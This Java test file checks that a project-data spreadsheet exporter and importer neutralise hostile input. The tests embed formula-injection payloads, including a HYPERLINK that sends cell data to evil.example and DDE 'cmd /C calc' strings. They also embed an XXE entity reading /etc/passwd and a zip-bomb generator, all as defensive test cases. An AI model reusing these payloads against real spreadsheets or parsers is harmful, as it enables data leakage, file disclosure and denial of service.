package cn.gov.jx.majorprojects.projects.project;

import static org.assertj.core.api.Assertions.assertThat;

import cn.gov.jx.majorprojects.projects.excel.ExcelSheets;
import cn.gov.jx.majorprojects.support.web.Problems.FieldProblem;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * The sheet itself, without the web layer: formula injection on export, hostile files on import.
 */
class ProjectExcelTests {

  static Project project(String name, String ownerOrgName, String description) {
    Project p = new Project();
    p.setCode("2027-360113-48-01-000901");
    p.setName(name);
    p.setLevel(ProjectLevel.CITY);
    p.setRegionCode("360113");
    p.setIndustry(Industry.ENERGY);
    p.setOwnerOrg("org-nc-metro");
    p.setOwnerOrgName(ownerOrgName);
    p.setTotalInvestment(new BigDecimal("1234.5"));
    p.setPlannedStart(LocalDate.of(2027, 1, 1));
    p.setPlannedFinish(LocalDate.of(2028, 12, 31));
    p.setStatus(ProjectStatus.PLANNED);
    p.setDescription(description);
    return p;
  }

  @Test
  void exportedTextThatLooksLikeAFormulaIsMarkedAsTextAndKeptVerbatim() throws Exception {
    List<String> hostile =
        List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1");
    List<Project> projects = new ArrayList<>();
    for (String text : hostile) {
      projects.add(project(text, text, text));
    }
    projects.add(project("南昌地铁5号线", "南昌轨道交通集团", "a-b = c"));

    try (XSSFWorkbook book =
        new XSSFWorkbook(new ByteArrayInputStream(ProjectExcel.write(projects)))) {
      for (int r = 1; r <= hostile.size(); r++) {
        Row row = book.getSheetAt(0).getRow(r);
        for (int c : new int[] {1, 6, 11}) {
          Cell cell = row.getCell(c);
          assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
          assertThat(cell.getStringCellValue()).isEqualTo(hostile.get(r - 1));
          assertThat(cell.getCellStyle().getQuotePrefixed()).as("row %d col %d", r, c).isTrue();
        }
      }
      Row plain = book.getSheetAt(0).getRow(hostile.size() + 1);
      assertThat(plain.getCell(1).getCellStyle().getQuotePrefixed()).isFalse();
      assertThat(plain.getCell(11).getCellStyle().getQuotePrefixed()).isFalse();
    }
  }

  @Test
  void aSheetMarkedAsTextImportsBackUnchanged() {
    String name = "=1+1 南昌";
    List<FieldProblem> problems = new ArrayList<>();
    List<ExcelSheets.SheetRow> rows =
        ProjectExcel.read(
            new ByteArrayInputStream(ProjectExcel.write(List.of(project(name, "-业主", "@x")))),
            10,
            problems);
    assertThat(problems).isEmpty();
    assertThat(rows.get(0).values())
        .containsEntry("name", name)
        .containsEntry("ownerOrgName", "-业主")
        .containsEntry("description", "@x");
  }

  @Test
  void aFormulaCellIsRefusedNamingItsCellWhateverResultItCaches() throws Exception {
    byte[] file;
    try (XSSFWorkbook book =
            new XSSFWorkbook(
                new ByteArrayInputStream(
                    ProjectExcel.write(List.of(project("南昌储能", "业主", "简介")))));
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      Row row = book.getSheetAt(0).getRow(1);
      // shows "南昌储能" in Excel, links the row's code out when clicked
      row.getCell(1).setCellFormula("HYPERLINK(\"http://evil.example/?\"&A2,\"南昌储能\")");
      row.getCell(1).setCellValue("南昌储能");
      row.getCell(7).setCellFormula("1000*10");
      book.write(out);
      file = out.toByteArray();
    }
    List<FieldProblem> problems = new ArrayList<>();
    ProjectExcel.read(new ByteArrayInputStream(file), 10, problems);

    assertThat(problems)
        .extracting(FieldProblem::field, FieldProblem::message)
        .containsExactlyInAnyOrder(
            org.assertj.core.groups.Tuple.tuple(
                "row 2: name", "column B (项目名称) is a formula; enter its value instead"),
            org.assertj.core.groups.Tuple.tuple(
                "row 2: totalInvestment",
                "column H (总投资（万元）) is a formula; enter its value instead"));
  }

  /** A real workbook whose first sheet's XML is replaced. */
  static byte[] withSheetXml(byte[] sheetXml) throws Exception {
    ByteArrayOutputStream plain = new ByteArrayOutputStream();
    try (XSSFWorkbook book = new XSSFWorkbook()) {
      book.createSheet(ProjectExcel.SHEET).createRow(0).createCell(0).setCellValue("x");
      book.write(plain);
    }
    byte[] valid = plain.toByteArray();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(valid));
        ZipOutputStream zip = new ZipOutputStream(out)) {
      for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
        zip.putNextEntry(new ZipEntry(e.getName()));
        zip.write(e.getName().equals("xl/worksheets/sheet1.xml") ? sheetXml : in.readAllBytes());
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  /** Refused as a whole, before any header or row is looked at. */
  static List<FieldProblem> problemsReading(byte[] file) {
    return problemsReading(file, 10);
  }

  static List<FieldProblem> problemsReading(byte[] file, int maxRows) {
    List<FieldProblem> problems = new ArrayList<>();
    ProjectExcel.read(new ByteArrayInputStream(file), maxRows, problems);
    assertThat(problems)
        .extracting(FieldProblem::field, FieldProblem::message)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple("file", "is not a readable .xlsx workbook"));
    return problems;
  }

  @Test
  void aSheetWithAnExternalEntityIsRefusedWithoutReadingTheFile() throws Exception {
    String xxe =
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
        <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
        <sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c></row></sheetData>
        </worksheet>
        """;
    List<FieldProblem> problems =
        problemsReading(withSheetXml(xxe.getBytes(StandardCharsets.UTF_8)));
    assertThat(problems)
        .extracting(FieldProblem::message)
        .containsExactly("is not a readable .xlsx workbook");
    assertThat(problems.toString()).doesNotContain("root:");
  }

  @Test
  void aZipBombIsRefused() throws Exception {
    // 60 MB of one repeated row compresses a thousandfold: POI's inflate-ratio guard stops it
    ByteArrayOutputStream xml = new ByteArrayOutputStream();
    xml.writeBytes(
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
            .getBytes(StandardCharsets.US_ASCII));
    // a proper header first: the rows are streamed, so only the inflate-ratio guard stops it
    StringBuilder header = new StringBuilder("<row>");
    for (String[] column : ProjectExcel.COLUMNS) {
      header.append("<c t=\"inlineStr\"><is><t>").append(column[0]).append("</t></is></c>");
    }
    xml.writeBytes(header.append("</row>").toString().getBytes(StandardCharsets.UTF_8));
    byte[] row =
        "<row><c t=\"inlineStr\"><is><t>boom</t></is></c></row>"
            .getBytes(StandardCharsets.US_ASCII);
    while (xml.size() < 60_000_000) {
      xml.writeBytes(row);
    }
    xml.writeBytes("</sheetData></worksheet>".getBytes(StandardCharsets.US_ASCII));
    byte[] file = withSheetXml(xml.toByteArray());
    assertThat(file.length).isLessThan(1_000_000);

    problemsReading(file, ProjectImport.MAX_ROWS);
  }

  @Test
  void aSheetPartLargerThanTheEntryLimitIsRefusedEvenWhenItDoesNotCompressWell() throws Exception {
    // random text compresses poorly, so the ratio guard lets it pass: the entry-size bound does not
    Random random = new Random(42);
    byte[] noise = new byte[ProjectExcel.MAX_SHEET_PART_BYTES / 4 * 3 + 1_000];
    random.nextBytes(noise);
    String xml =
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><!-- "
            + Base64.getEncoder().encodeToString(noise)
            + " --><sheetData/></worksheet>";

    problemsReading(withSheetXml(xml.getBytes(StandardCharsets.US_ASCII)));
  }

  @Test
  void anExportOfTheMostRowsAnImportTakesFitsTheEntryLimit() {
    List<Project> projects = new ArrayList<>();
    // a full description of 150 characters and a long owner name on every row
    String description = "赣江新区光伏电站及配套储能工程，".repeat(10);
    for (int i = 0; i < ProjectImport.MAX_ROWS; i++) {
      projects.add(project("赣江新区光伏电站" + i, "南昌轨道交通集团有限公司第" + i + "分公司", description));
    }
    List<FieldProblem> problems = new ArrayList<>();
    List<ExcelSheets.SheetRow> rows =
        ProjectExcel.read(
            new ByteArrayInputStream(ProjectExcel.write(projects)),
            ProjectImport.MAX_ROWS,
            problems);
    assertThat(problems).isEmpty();
    assertThat(rows).hasSize(ProjectImport.MAX_ROWS);
  }

  @Test
  void oneRowOverTheLimitIsAProblemOfTheFileAndTheReadingStopsThere() {
    List<Project> projects = new ArrayList<>();
    for (int i = 0; i <= ProjectImport.MAX_ROWS; i++) {
      projects.add(project("赣江新区光伏电站" + i, "南昌轨道交通集团", "简介"));
    }
    List<FieldProblem> problems = new ArrayList<>();
    List<ExcelSheets.SheetRow> rows =
        ProjectExcel.read(
            new ByteArrayInputStream(ProjectExcel.write(projects)),
            ProjectImport.MAX_ROWS,
            problems);

    assertThat(problems)
        .extracting(FieldProblem::field, FieldProblem::message)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(
                "file", "at most " + ProjectImport.MAX_ROWS + " rows per import"));
    assertThat(rows).hasSize(ProjectImport.MAX_ROWS);
  }
}
